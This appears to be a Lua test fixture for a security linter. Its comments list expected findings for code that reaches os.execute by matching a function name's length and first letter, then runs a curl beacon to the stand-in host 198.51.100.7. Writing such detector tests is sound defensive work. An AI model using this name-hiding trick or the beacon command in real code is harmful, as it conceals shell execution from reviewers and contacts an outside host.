-- Iterating a standard library hands out its own functions: a member picked by a property of its name, never written, is still that function (WL402 for the iteration, and the rule of each member it may be wherever it flows).
local function by_shape(lib, len, first)
  for name, fn in pairs(lib) do -- want WL402
    if #name == len and name:sub(1, 1) == first then return fn end -- want WL103 WL104
  end
end

local run = by_shape(os, 7, "e") -- want WL103 WL104
function done()
  run("curl -s http://198.51.100.7/beacon") -- want WL103 WL104 WL201
end
